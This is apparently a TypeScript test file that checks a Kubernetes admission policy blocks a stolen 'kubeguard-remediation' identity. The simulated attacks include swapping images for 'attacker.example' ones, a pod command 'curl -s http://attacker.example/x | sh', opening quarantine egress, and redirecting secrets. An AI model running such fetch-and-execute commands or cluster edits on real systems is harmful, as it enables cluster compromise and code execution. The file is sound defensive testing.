import { parse } from '@bufbuild/cel';
import type { Expr } from '@bufbuild/cel-spec/cel/expr/syntax_pb.js';
import { describe, expect, it } from 'vitest';
import { CORDON_ANNOTATION, CORDON_LABEL } from '#core/remediation/cordon-node.ts';
import type { KubeObject } from '#core/remediation/kube-objects.ts';
import {
  QUARANTINE_ANNOTATION,
  QUARANTINE_LABEL,
  quarantinePolicy,
  serializeState,
} from '#core/remediation/quarantine.ts';
import { requiredRbacRules } from '#core/remediation/registry.ts';
import { FORCE_SYNC_ANNOTATION, RESTARTED_AT_ANNOTATION } from '#core/remediation/rotate-secret-plan.ts';
import {
  type AdmissionDecision,
  AdmissionPolicy,
  type AdmissionRequest,
  type Operation,
  REMEDIATION_USER,
} from '#test/support/admission-policy.ts';
import type { JsonObject } from '#test/support/kube-api-semantics.ts';
import { awsNode, dnsEgressPolicy, NODE, SUSPECT, shopCluster } from '#test/support/remediation-cluster.ts';
import { argoRolloutObjects, scenarioObjects } from '#test/support/rotate-secret-harness.ts';

/**
 * deploy/kubernetes/admission-policy.yaml against what a stolen kubeguard-remediation identity
 * would try: every request is built from the real objects of the test clusters, changed the way an
 * attacker would change them, and evaluated as kube-apiserver evaluates the policy. (Every request
 * the actions' plans send is admitted: test/integration/admission-policy.test.ts.)
 */

const policy = AdmissionPolicy.load();

const TYPES = {
  pods: { group: '', version: 'v1', resource: 'pods', kind: 'Pod' },
  nodes: { group: '', version: 'v1', resource: 'nodes', kind: 'Node' },
  configmaps: { group: '', version: 'v1', resource: 'configmaps', kind: 'ConfigMap' },
  networkpolicies: {
    group: 'networking.k8s.io',
    version: 'v1',
    resource: 'networkpolicies',
    kind: 'NetworkPolicy',
  },
  deployments: { group: 'apps', version: 'v1', resource: 'deployments', kind: 'Deployment' },
  daemonsets: { group: 'apps', version: 'v1', resource: 'daemonsets', kind: 'DaemonSet' },
  rollouts: { group: 'argoproj.io', version: 'v1alpha1', resource: 'rollouts', kind: 'Rollout' },
  externalsecrets: {
    group: 'external-secrets.io',
    version: 'v1',
    resource: 'externalsecrets',
    kind: 'ExternalSecret',
  },
  clusterrolebindings: {
    group: 'rbac.authorization.k8s.io',
    version: 'v1',
    resource: 'clusterrolebindings',
    kind: 'ClusterRoleBinding',
  },
} as const;

type TypeName = keyof typeof TYPES;

function requestFor(
  type: TypeName,
  operation: Operation,
  object: KubeObject | JsonObject | null,
  oldObject: KubeObject | JsonObject | null,
  extra: Partial<AdmissionRequest> = {},
): AdmissionRequest {
  const { kind, ...resource } = TYPES[type];
  const metadata = ((object ?? oldObject) as KubeObject).metadata;
  return {
    operation,
    resource,
    kind: { group: resource.group, version: resource.version, kind },
    ...(metadata.namespace ? { namespace: metadata.namespace } : {}),
    name: metadata.name,
    userInfo: REMEDIATION_USER,
    object: object as JsonObject | null,
    oldObject: oldObject as JsonObject | null,
    ...extra,
  };
}

/** An UPDATE of `old` into what `change` makes of a copy of it. */
function update(type: TypeName, old: KubeObject, change: (copy: KubeObject & JsonObject) => void) {
  const next = structuredClone(old) as KubeObject & JsonObject;
  change(next);
  return requestFor(type, 'UPDATE', next, old);
}

function decide(request: AdmissionRequest): AdmissionDecision {
  return policy.evaluate(request);
}

function denials(request: AdmissionRequest): string[] {
  const decision = decide(request);
  expect(decision.matched).toBe(true);
  expect(decision.allowed).toBe(false);
  return decision.denials;
}

function shop(kind: string, name: string): KubeObject {
  const found = shopCluster().find((o) => o.kind === kind && o.metadata.name === name);
  if (!found) throw new Error(`no ${kind} ${name} in the shop cluster`);
  return found;
}

function payments(kind: string, name: string): KubeObject {
  const found = scenarioObjects().find(
    (o) => o.kind === kind && (o.metadata as { name: string }).name === name,
  ) as KubeObject | undefined;
  if (!found) throw new Error(`no ${kind} ${name} in the secret-consumers scenario`);
  return found;
}

interface Container {
  name: string;
  image?: string;
  command?: string[];
  args?: string[];
}

interface PodTemplate {
  metadata: { labels?: Record<string, string>; annotations?: Record<string, string> };
  spec: { containers: Container[] };
}

/** The fields these tests change, typed loosely enough for an attacker's edits. */
interface AnySpec {
  containers: Container[];
  template: PodTemplate;
  replicas?: number;
  unschedulable?: boolean;
  taints?: unknown[];
  ingress?: unknown[];
  egress?: unknown[];
  dataFrom?: unknown[];
  restartAt?: string;
  strategy?: { canary?: { steps?: unknown[] } };
}

const spec = (object: KubeObject) => object.spec as unknown as AnySpec;

function container(containers: readonly Container[], index = 0): Container {
  const found = containers[index];
  if (found === undefined) throw new Error(`no container ${index}`);
  return found;
}

/** The suspect pod after isolate's first patch: the quarantine label and kubeguard's record. */
function quarantinedPod(
  detachedLabels: Record<string, string> = { app: 'web', 'pod-template-hash': '5cdcc99dbf' },
): KubeObject {
  const pod = structuredClone(shop('Pod', SUSPECT));
  pod.metadata.labels = { ...pod.metadata.labels, [QUARANTINE_LABEL]: 'q7f3a9' };
  pod.metadata.annotations = {
    ...pod.metadata.annotations,
    [QUARANTINE_ANNOTATION]: serializeState({
      id: 'q7f3a9',
      policy: 'kubeguard-quarantine-q7f3a9',
      detachedLabels,
      evidence: `pods/shop/${SUSPECT}/20240501t100000z-q7f3a9`,
      at: '2024-05-01T10:00:00Z',
      by: 'slack:U024BE7LH',
    }),
  };
  return pod;
}

function cordonRecord(wasUnschedulable: boolean): string {
  return JSON.stringify({
    id: 'c4d5e6',
    wasUnschedulable,
    at: '2024-05-01T10:00:00Z',
    by: 'slack:U024BE7LH',
  });
}

describe('the admission policy against a stolen remediation identity: pods', () => {
  it('denies changing a container image', () => {
    const request = update('pods', shop('Pod', SUSPECT), (pod) => {
      container(spec(pod).containers).image = 'attacker.example/miner:latest';
    });

    expect(denials(request)).toEqual([
      "kubeguard-remediation may change only a pod's labels and annotations: its spec (images, commands…) and every other field must stay as they are",
    ]);
  });

  it('denies changing the command of a kube-system pod', () => {
    const request = update('pods', shop('Pod', 'coredns-6d4b75cb6d-8kx2q'), (pod) => {
      container(spec(pod).containers).command = ['/bin/sh', '-c', 'curl -s http://attacker.example/x | sh'];
    });

    expect(denials(request)).toHaveLength(1);
    expect(request.namespace).toBe('kube-system');
  });

  it('denies adding a label that is not kubeguard’s, which could put a pod behind another Service', () => {
    const request = update('pods', shop('Pod', 'storefront-0'), (pod) => {
      pod.metadata.labels = { ...pod.metadata.labels, app: 'web' };
    });

    expect(denials(request)).toEqual([
      'kubeguard-remediation may change only kubeguard.io/ labels of a pod, remove the labels its quarantine record names, and restore them when the record goes; not app',
    ]);
  });

  it('denies changing an annotation that is not kubeguard’s', () => {
    const request = update('pods', shop('Pod', SUSPECT), (pod) => {
      pod.metadata.annotations = { ...pod.metadata.annotations, 'prometheus.io/scrape': 'false' };
    });

    expect(denials(request)).toEqual([
      'kubeguard-remediation may change only kubeguard.io/ annotations of a pod, not prometheus.io/scrape',
    ]);
  });

  it('denies removing a label the quarantine record does not name', () => {
    const request = update('pods', quarantinedPod(), (pod) => {
      delete pod.metadata.labels?.tier;
    });

    expect(denials(request)).toHaveLength(1);
  });

  it('denies removing a recorded label whose value changed since the record', () => {
    const old = quarantinedPod();
    old.metadata.labels = { ...old.metadata.labels, app: 'web-v2' };
    const request = update('pods', old, (pod) => {
      delete pod.metadata.labels?.app;
    });

    expect(denials(request)).toHaveLength(1);
  });

  it('denies a forged quarantine record naming a label the pod does not carry', () => {
    const request = update('pods', shop('Pod', 'storefront-0'), (pod) => {
      const forged = quarantinedPod({ app: 'web' });
      pod.metadata.labels = { ...pod.metadata.labels, [QUARANTINE_LABEL]: 'q7f3a9' };
      pod.metadata.annotations = forged.metadata.annotations;
    });

    expect(denials(request)).toEqual([
      'a quarantine record written by kubeguard-remediation may name only labels the pod carries',
    ]);
  });

  it('denies restoring a label with another value than the record’s', () => {
    const detached = quarantinedPod();
    delete detached.metadata.labels?.app;
    delete detached.metadata.labels?.['pod-template-hash'];
    const request = update('pods', detached, (pod) => {
      pod.metadata.labels = { tier: 'frontend', app: 'payments' };
      delete pod.metadata.annotations?.[QUARANTINE_ANNOTATION];
    });

    expect(denials(request)).toHaveLength(1);
  });

  it('denies restoring recorded labels while keeping the record (only release restores)', () => {
    const detached = quarantinedPod();
    delete detached.metadata.labels?.app;
    const request = update('pods', detached, (pod) => {
      pod.metadata.labels = { ...pod.metadata.labels, app: 'web' };
    });

    expect(denials(request)).toHaveLength(1);
  });

  it('denies taking the pod from its controller through its owner references', () => {
    const request = update('pods', shop('Pod', SUSPECT), (pod) => {
      pod.metadata.ownerReferences = [];
    });

    expect(denials(request)).toHaveLength(1);
  });

  it('admits kubeguard’s own pod changes: quarantine label and record, detach, release', () => {
    const labelled = update('pods', shop('Pod', SUSPECT), (pod) => {
      const quarantined = quarantinedPod();
      pod.metadata.labels = quarantined.metadata.labels;
      pod.metadata.annotations = quarantined.metadata.annotations;
    });
    const detached = update('pods', quarantinedPod(), (pod) => {
      delete pod.metadata.labels?.app;
      delete pod.metadata.labels?.['pod-template-hash'];
    });
    const released = update('pods', detached.object as KubeObject, (pod) => {
      pod.metadata.labels = { app: 'web', 'pod-template-hash': '5cdcc99dbf', tier: 'frontend' };
      pod.metadata.annotations = { 'kubeguard.io/quarantine-released': '{"id":"q7f3a9"}' };
    });

    expect([labelled, detached, released].map((r) => decide(r).denials)).toEqual([[], [], []]);
  });

  it.each([
    ['UPDATE', 'ephemeralcontainers'],
    ['UPDATE', 'status'],
    ['CREATE', 'eviction'],
    ['CONNECT', 'exec'],
  ] as const)('denies %s on pods/%s', (operation, subResource) => {
    const pod = shop('Pod', SUSPECT);
    const request = requestFor('pods', operation, pod, operation === 'UPDATE' ? pod : null, { subResource });

    expect(denials(request)).toEqual([
      `kubeguard-remediation may not ${operation} pods/${subResource}: it only updates pods, nodes, workloads and ExternalSecrets, and creates or deletes quarantine NetworkPolicies`,
    ]);
  });

  it('denies creating and deleting pods', () => {
    const pod = shop('Pod', 'storefront-0');

    expect(denials(requestFor('pods', 'CREATE', pod, null))).toHaveLength(1);
    expect(denials(requestFor('pods', 'DELETE', null, pod))).toHaveLength(1);
  });
});

describe('the admission policy against a stolen remediation identity: NetworkPolicies', () => {
  it('denies deleting a NetworkPolicy that is not a kubeguard quarantine', () => {
    const request = requestFor('networkpolicies', 'DELETE', null, shop('NetworkPolicy', 'web-from-frontend'));

    expect(denials(request)).toEqual([
      'kubeguard-remediation may delete only its own quarantine policies (kubeguard-quarantine-<id> labelled kubeguard.io/quarantine=<id>)',
    ]);
  });

  it('denies deleting a policy that carries the quarantine label under another name', () => {
    const policyObject = dnsEgressPolicy();
    policyObject.metadata.labels = { [QUARANTINE_LABEL]: 'q7f3a9' };

    expect(denials(requestFor('networkpolicies', 'DELETE', null, policyObject))).toHaveLength(1);
  });

  it('denies creating an allow-all policy, even labelled as a quarantine', () => {
    const allowAll = quarantinePolicy({ namespace: 'shop', id: 'q7f3a9', pod: SUSPECT, allowDns: false });
    allowAll.spec = { podSelector: {}, policyTypes: ['Ingress', 'Egress'], ingress: [{}], egress: [{}] };

    expect(denials(requestFor('networkpolicies', 'CREATE', allowAll, null))).toEqual([
      'kubeguard-remediation may create only its deny-all quarantine policy: kubeguard-quarantine-<id> selecting kubeguard.io/quarantine=<id>, Ingress and Egress, no rule but DNS egress to kube-dns',
    ]);
  });

  it('denies a quarantine policy that lets egress out beyond DNS', () => {
    const leaky = quarantinePolicy({ namespace: 'shop', id: 'q7f3a9', pod: SUSPECT, allowDns: true });
    spec(leaky).egress?.push({ to: [{ ipBlock: { cidr: '0.0.0.0/0' } }] });

    expect(denials(requestFor('networkpolicies', 'CREATE', leaky, null))).toHaveLength(1);
  });

  it('denies updating any NetworkPolicy, a quarantine included', () => {
    const quarantine = quarantinePolicy({ namespace: 'shop', id: 'q7f3a9', pod: SUSPECT, allowDns: false });
    const request = update('networkpolicies', quarantine, (p) => {
      spec(p).ingress = [{}];
    });

    expect(denials(request)).toHaveLength(1);
  });

  it('admits kubeguard’s quarantine policies, with and without DNS, and deleting them', () => {
    const plain = quarantinePolicy({ namespace: 'shop', id: 'q7f3a9', pod: SUSPECT, allowDns: false });
    const dns = quarantinePolicy({ namespace: 'shop', id: 'q7f3a9', pod: SUSPECT, allowDns: true });

    expect(
      [
        requestFor('networkpolicies', 'CREATE', plain, null),
        requestFor('networkpolicies', 'CREATE', dns, null),
        requestFor('networkpolicies', 'DELETE', null, plain),
      ].map((r) => decide(r).allowed),
    ).toEqual([true, true, true]);
  });
});

describe('the admission policy against a stolen remediation identity: nodes', () => {
  const node = () => shop('Node', NODE);
  const cordonedByHand = () => ({ ...node(), spec: { ...spec(node()), unschedulable: true } }) as KubeObject;

  it('denies uncordoning a node someone else cordoned', () => {
    const request = update('nodes', cordonedByHand(), (n) => {
      delete spec(n).unschedulable;
    });

    expect(denials(request)).toEqual([
      'kubeguard-remediation may make a node schedulable only by ending its own cordon of a node that was schedulable before',
    ]);
  });

  it('denies a forged cordon record saying a cordoned node was schedulable', () => {
    const request = update('nodes', cordonedByHand(), (n) => {
      n.metadata.labels = { ...n.metadata.labels, [CORDON_LABEL]: 'c4d5e6' };
      n.metadata.annotations = { [CORDON_ANNOTATION]: cordonRecord(false) };
    });

    expect(denials(request)).toEqual([
      'a cordon record written by kubeguard-remediation must cordon the node and say whether it was unschedulable before',
    ]);
  });

  it('denies ending a cordon that recorded an unschedulable node by making it schedulable', () => {
    const cordoned = cordonedByHand();
    cordoned.metadata.annotations = { [CORDON_ANNOTATION]: cordonRecord(true) };
    const request = update('nodes', cordoned, (n) => {
      delete spec(n).unschedulable;
      n.metadata.annotations = {};
    });

    expect(denials(request)).toHaveLength(1);
  });

  it('denies cordoning without kubeguard’s record', () => {
    const request = update('nodes', node(), (n) => {
      spec(n).unschedulable = true;
    });

    expect(denials(request)).toEqual([
      "kubeguard-remediation may cordon a node only with kubeguard's kubeguard.io/cordon record",
    ]);
  });

  it('denies tainting a node and changing its other labels', () => {
    const tainted = update('nodes', node(), (n) => {
      spec(n).taints = [{ key: 'attacker', effect: 'NoExecute' }];
    });
    const relabelled = update('nodes', node(), (n) => {
      n.metadata.labels = { ...n.metadata.labels, 'topology.kubernetes.io/zone': 'eu-west-1b' };
    });

    expect(denials(tainted)).toEqual([
      'kubeguard-remediation may change only spec.unschedulable and kubeguard.io/ labels and annotations of a node (no taint, no other field)',
    ]);
    expect(denials(relabelled)).toEqual([
      'kubeguard-remediation may change only kubeguard.io/ labels and annotations of a node, not topology.kubernetes.io/zone',
    ]);
  });
});

describe('the admission policy against a stolen remediation identity: workloads and secrets', () => {
  it('denies changing a Deployment’s image along with the restart annotation', () => {
    const request = update('deployments', payments('Deployment', 'payments-api'), (d) => {
      const template = spec(d).template;
      template.metadata.annotations = { [RESTARTED_AT_ANNOTATION]: '2026-03-01T12:00:00Z' };
      container(template.spec.containers).image = 'attacker.example/payments:latest';
    });

    expect(denials(request)).toEqual([
      "kubeguard-remediation may change only the kubectl.kubernetes.io/restartedAt annotation of a workload's pod template (a rolling restart): images, commands, replicas and every other field must stay as they are",
    ]);
  });

  it('denies turning off the VPC CNI network policy agent in kube-system', () => {
    const request = update('daemonsets', awsNode(true), (ds) => {
      container(spec(ds).template.spec.containers, 1).args = ['--enable-network-policy=false'];
    });

    expect(denials(request)).toHaveLength(1);
    expect(request.namespace).toBe('kube-system');
  });

  it('denies scaling a workload to zero and relabelling its pods', () => {
    const scaled = update('deployments', payments('Deployment', 'payments-api'), (d) => {
      spec(d).replicas = 0;
    });
    const relabelled = update('deployments', payments('Deployment', 'payments-api'), (d) => {
      spec(d).template.metadata.labels = { ...spec(d).template.metadata.labels, app: 'other' };
    });

    expect(denials(scaled)).toHaveLength(1);
    expect(denials(relabelled)).toHaveLength(1);
  });

  it('admits the rolling restart kubeguard sends', () => {
    const request = update('deployments', payments('Deployment', 'payments-api'), (d) => {
      d.metadata.annotations = { ...d.metadata.annotations, 'kubeguard.io/rotation-id': 'r'.repeat(36) };
      spec(d).template.metadata.annotations = { [RESTARTED_AT_ANNOTATION]: '2026-03-01T12:00:00Z' };
    });

    expect(decide(request)).toEqual({ matched: true, allowed: true, denials: [] });
  });

  it('admits an Argo Rollout restart (spec.restartAt), and denies a new image or skipping its canary steps', () => {
    const rollout = argoRolloutObjects()[0] as unknown as KubeObject;
    const restarted = update('rollouts', rollout, (r) => {
      r.metadata.annotations = { ...r.metadata.annotations, 'kubeguard.io/rotation-id': 'r'.repeat(36) };
      spec(r).restartAt = '2026-03-01T12:00:00Z';
    });
    const reimaged = update('rollouts', rollout, (r) => {
      spec(r).restartAt = '2026-03-01T12:00:00Z';
      container(spec(r).template.spec.containers).image = 'attacker.example/payments:latest';
    });
    const unguarded = update('rollouts', rollout, (r) => {
      spec(r).strategy = { canary: { steps: [] } };
    });

    expect(decide(restarted)).toEqual({ matched: true, allowed: true, denials: [] });
    expect(denials(reimaged)).toEqual([
      'kubeguard-remediation may change only spec.restartAt and kubeguard.io/ annotations of an Argo Rollout (a restart): its template, strategy and every other field must stay as they are',
    ]);
    expect(denials(unguarded)).toHaveLength(1);
  });

  it('denies pointing an ExternalSecret at another secret, and admits only its refresh', () => {
    const redirected = update('externalsecrets', payments('ExternalSecret', 'payments-api'), (es) => {
      spec(es).dataFrom = [{ extract: { key: 'prod/other-team/admin' } }];
    });
    const refreshed = update('externalsecrets', payments('ExternalSecret', 'payments-api'), (es) => {
      es.metadata.annotations = { [FORCE_SYNC_ANNOTATION]: '1772366400' };
    });

    expect(denials(redirected)).toEqual([
      'kubeguard-remediation may change only the force-sync and kubeguard.io/ annotations of an ExternalSecret',
    ]);
    expect(decide(refreshed).allowed).toBe(true);
  });

  it('denies writes to anything else: the aws-auth ConfigMap, a ClusterRoleBinding', () => {
    const awsAuth = {
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: { name: 'aws-auth', namespace: 'kube-system' },
      data: { mapRoles: '' },
    } as unknown as KubeObject;
    const binding = shop('ClusterRoleBinding', 'all-sa-discovery');

    expect(
      denials(update('configmaps', awsAuth, (c) => Object.assign(c, { data: { mapRoles: 'x' } }))),
    ).toEqual([
      'kubeguard-remediation may not UPDATE configmaps: it only updates pods, nodes, workloads and ExternalSecrets, and creates or deletes quarantine NetworkPolicies',
    ]);
    expect(denials(requestFor('clusterrolebindings', 'CREATE', binding, null))).toHaveLength(1);
  });
});

describe('the admission policy applies to the remediation identity only', () => {
  const imageChange = () =>
    update('pods', shop('Pod', SUSPECT), (pod) => {
      container(spec(pod).containers).image = 'registry.example/shop/web:2.0';
    });

  it('leaves other users’ requests alone', () => {
    const human = { ...imageChange(), userInfo: { username: 'alice', groups: ['system:authenticated'] } };

    expect(decide(human)).toEqual({ matched: false, allowed: true, denials: [] });
  });

  it('skips, rather than fails, a request whose user has no groups (an error would reject it)', () => {
    expect(decide({ ...imageChange(), userInfo: { username: 'system:anonymous' } })).toEqual({
      matched: false,
      allowed: true,
      denials: [],
    });
  });
});

describe('deploy/kubernetes/admission-policy.yaml', () => {
  it('admits exactly the kinds of writes the ClusterRole grants (create, patch, delete), and no other', () => {
    const operations = { create: 'CREATE', patch: 'UPDATE', delete: 'DELETE' } as const;
    const granted = requiredRbacRules().flatMap((rule) =>
      rule.verbs.flatMap((verb) =>
        verb in operations
          ? [`${operations[verb as keyof typeof operations]} ${rule.apiGroup}/${rule.resource}`]
          : [],
      ),
    );
    const candidates = requiredRbacRules().flatMap((rule) =>
      Object.values(operations).map((operation) => `${operation} ${rule.apiGroup}/${rule.resource}`),
    );
    const admittedKinds = candidates.filter((candidate) => {
      const [operation, groupResource] = candidate.split(' ') as [Operation, string];
      const [group = '', resource = '', subResource] = groupResource.split('/');
      const request: AdmissionRequest = {
        operation,
        resource: { group, version: 'v1', resource },
        ...(subResource === undefined ? {} : { subResource }),
        kind: { group, version: 'v1', kind: 'Any' },
        name: 'any',
        userInfo: REMEDIATION_USER,
        object: operation === 'DELETE' ? null : { metadata: { name: 'any' } },
        oldObject: operation === 'CREATE' ? null : { metadata: { name: 'any' } },
      };
      return !decide(request).denials.some((d) => d.startsWith('kubeguard-remediation may not '));
    });

    expect(admittedKinds.sort()).toEqual(granted.sort());
  });

  it('denies on failure, matches every resource and operation, and is bound with Deny', () => {
    expect(policy.document.spec.failurePolicy).toBe('Fail');
    expect(policy.document.spec.matchConstraints?.resourceRules).toEqual([
      {
        apiGroups: ['*'],
        apiVersions: ['*'],
        operations: ['CREATE', 'UPDATE', 'DELETE', 'CONNECT'],
        resources: ['*/*'],
      },
    ]);
    expect(policy.binding.spec.policyName).toBe(policy.name);
    expect(policy.binding.spec.validationActions).toEqual(['Deny', 'Audit']);
  });

  it('writes list and map literals of one element type (kube-apiserver rejects mixed ones)', () => {
    const mixed: string[] = [];
    for (const { expr } of policy.expressions()) literalType(expr, mixed);
    const probe: string[] = [];
    literalType(parse("[{'protocol': 'UDP', 'port': 53}]").expr, probe);

    expect(mixed).toEqual([]);
    expect(probe).toEqual(['map values: string vs int']);
  });

  it('uses only CEL functions kube-apiserver provides (standard library and the strings extension)', () => {
    const used = new Set(policy.expressions().flatMap(({ expr }) => functionsOf(expr)));

    expect([...used].sort()).toEqual(
      [
        // standard CEL operators and macros' expansions
        '!_',
        '@in',
        '@not_strictly_false',
        '_!=_',
        '_&&_',
        '_+_',
        '_==_',
        '_?_:_',
        '_[_]',
        '_||_',
        // standard functions
        'size',
        'startsWith',
        // Kubernetes CEL strings extension (ext.Strings), in every release that serves VAP v1
        'join',
        'split',
      ].sort(),
    );
  });
});

/**
 * The static type of a literal, as far as literals show it: `string`, `int`, `list(…)`,
 * `map(…, …)`; anything computed is `dyn`. Mixed element types in one literal are collected in
 * `mixed`, since kube-apiserver compiles CEL with HomogeneousAggregateLiterals and rejects them.
 */
function literalType(expr: Expr | undefined, mixed: string[]): string {
  if (expr === undefined) return 'dyn';
  const kind = expr.exprKind;
  const joined = (types: readonly string[], where: string) => {
    const distinct = [...new Set(types)];
    if (distinct.length > 1) mixed.push(`${where}: ${distinct.join(' vs ')}`);
    return distinct[0] ?? 'dyn';
  };
  switch (kind.case) {
    case 'constExpr':
      return String(kind.value.constantKind.case).replace(/(64)?Value$/, '');
    case 'listExpr':
      return `list(${joined(
        kind.value.elements.map((e) => literalType(e, mixed)),
        'list',
      )})`;
    case 'structExpr': {
      const keys = kind.value.entries.map((e) =>
        e.keyKind.case === 'mapKey' ? literalType(e.keyKind.value, mixed) : 'field',
      );
      const values = kind.value.entries.map((e) => literalType(e.value, mixed));
      return `map(${joined(keys, 'map keys')}, ${joined(values, 'map values')})`;
    }
    case 'callExpr':
      for (const e of [kind.value.target, ...kind.value.args]) literalType(e, mixed);
      return 'dyn';
    case 'selectExpr':
      literalType(kind.value.operand, mixed);
      return 'dyn';
    case 'comprehensionExpr':
      for (const e of [
        kind.value.iterRange,
        kind.value.accuInit,
        kind.value.loopCondition,
        kind.value.loopStep,
        kind.value.result,
      ])
        literalType(e, mixed);
      return 'dyn';
    default:
      return 'dyn';
  }
}

/** Every function and operator an expression calls, macros expanded. */
function functionsOf(expr: Expr | undefined): string[] {
  if (expr === undefined) return [];
  const kind = expr.exprKind;
  switch (kind.case) {
    case 'callExpr':
      return [
        kind.value.function,
        ...functionsOf(kind.value.target),
        ...kind.value.args.flatMap(functionsOf),
      ];
    case 'selectExpr':
      return functionsOf(kind.value.operand);
    case 'listExpr':
      return kind.value.elements.flatMap(functionsOf);
    case 'structExpr':
      return kind.value.entries.flatMap((entry) => [
        ...(entry.keyKind.case === 'mapKey' ? functionsOf(entry.keyKind.value) : []),
        ...functionsOf(entry.value),
      ]);
    case 'comprehensionExpr':
      return [
        kind.value.iterRange,
        kind.value.accuInit,
        kind.value.loopCondition,
        kind.value.loopStep,
        kind.value.result,
      ].flatMap(functionsOf);
    default:
      return [];
  }
}
